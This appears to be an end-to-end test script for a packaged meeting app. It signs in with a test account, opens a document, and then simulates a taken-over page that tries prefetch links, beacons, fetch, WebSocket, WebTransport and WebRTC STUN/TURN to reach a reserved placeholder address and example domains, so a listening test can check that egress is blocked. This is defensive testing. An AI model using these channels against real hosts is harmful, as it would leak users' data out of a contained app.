// What the app does in its own network, run there as an ordinary user: a person signs in, opens a meeting and a paper.
// Then, with `--taken-over`, the page tries every way out that no policy of a page covers.
// Writes one word a line for each thing done; the test beside it listens on the wire.
import { launchPackaged } from "../helpers/launch-packaged.ts";
import type { DevTools } from "../helpers/devtools.ts";

const server = process.env["BANHOP_SERVER"];
if (!server) throw new Error("BANHOP_SERVER is missing");
/** Nobody has this address (RFC 5737), and nothing but an escaping page names it. */
const ELSEWHERE = "198.51.100.7";
const SLOW_MS = 20_000;
/** The first attempts of all ways were heard within 400 ms when nothing held them back. */
const ATTEMPTS_MS = 2_000;

const app = await launchPackaged({ BANHOP_SERVER: server });
try {
  const page = app.window;
  await signIn(page);
  done("signed-in");
  await clickLink(page, "Hội nghị hiệp thương", "/cuoc-hop/");
  done("meeting");
  const papers = `[...document.querySelectorAll("a, button")].find((one) => one.innerText.trim() === "Tài liệu")`;
  await page.untilTrue(papers, SLOW_MS);
  await page.evaluate(`${papers}.click()`);
  await clickLink(page, "Báo cáo công tác chuẩn bị hiệp thương", "/tai-lieu/");
  await page.untilTrue(`document.querySelector(".rd-text span")`, SLOW_MS);
  done("paper");
  if (process.argv.includes("--taken-over")) {
    await tryToGetOut(page);
    done("tried");
  }
} finally {
  await app.close();
}

async function signIn(page: DevTools): Promise<void> {
  await page.untilTrue(`document.querySelector("input[autocomplete=username]")`, SLOW_MS);
  for (const [kind, text] of [["username", "chutri"] as const, ["current-password", "banhop-dung-thu"] as const]) {
    await page.evaluate(`document.querySelector("input[autocomplete=${kind}]").focus()`);
    await page.send("Input.insertText", { text });
  }
  await page.evaluate(`document.querySelector("button[type=submit]").click()`);
  await page.untilTrue(`location.pathname === "/"`, SLOW_MS);
}

async function clickLink(page: DevTools, text: string, place: string): Promise<void> {
  const link = `[...document.querySelectorAll("a")].find((a) => a.href.includes("${place}") && (a.closest("li") ?? a).innerText.includes(${JSON.stringify(text)}))`;
  await page.untilTrue(link, SLOW_MS);
  await page.evaluate(`${link}.click()`);
  await page.untilTrue(`location.pathname.startsWith("${place}")`, SLOW_MS);
}

async function tryToGetOut(page: DevTools): Promise<void> {
  await page.evaluate(`(async () => {
    const add = (tag, attributes) => {
      const element = Object.assign(document.createElement(tag), attributes);
      document.head.append(element);
      return element;
    };
    for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "stylesheet", "icon", "modulepreload"])
      add("link", { rel, href: "http://${ELSEWHERE}/" + rel, as: "image" });
    add("link", { rel: "dns-prefetch", href: "//words-of-a-paper.example.org" });
    add("link", { rel: "preconnect", href: "http://words-of-a-paper.example.net" });
    add("script", { src: "http://${ELSEWHERE}/script" });
    add("img", { src: "http://${ELSEWHERE}/img" });
    add("a", { href: "#here", ping: "http://${ELSEWHERE}/ping" }).click();
    navigator.sendBeacon("http://${ELSEWHERE}/beacon", "x");
    fetch("http://${ELSEWHERE}/fetch", { mode: "no-cors" }).catch(() => {});
    try { new WebSocket("ws://${ELSEWHERE}/socket"); } catch {}
    try { new WebTransport("https://${ELSEWHERE}/transport"); } catch {}
    const connection = new RTCPeerConnection({ iceServers: [
      { urls: "stun:${ELSEWHERE}:3478" },
      { urls: "stun:words-of-a-paper.example.com:3478" },
      { urls: "turn:${ELSEWHERE}:3479?transport=tcp", username: "words", credential: "x" },
    ] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, ${ATTEMPTS_MS}));
  })()`);
}

function done(what: string): void {
  console.log(what);
}
